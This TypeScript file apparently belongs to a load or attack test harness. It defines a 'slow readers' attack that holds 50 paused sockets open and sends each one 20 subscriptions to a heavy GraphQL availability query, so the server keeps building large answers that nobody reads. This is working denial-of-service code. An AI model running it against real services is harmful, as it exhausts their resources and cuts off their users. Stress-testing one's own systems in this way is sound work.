// Sockets that ask for the largest answers and read none.

import { type Attack, holdSockets, subscribe, watchPayload } from '../attack.ts'

export const slowReaders: Attack = {
  name: 'slow readers',
  run(target) {
    const { variables } = watchPayload(target, 3, 14)
    const query =
      'query ($input: AvailabilityInput!) { availability(input: $input) { slots { startsAt endsAt segments { candidates { id name } } } } }'
    return holdSockets(target, {
      count: 50,
      key: target.key,
      use(socket) {
        socket.pause()
        for (let id = 0; id < 20; id++) subscribe(socket, String(id), { query, variables })
      },
    })
  },
}
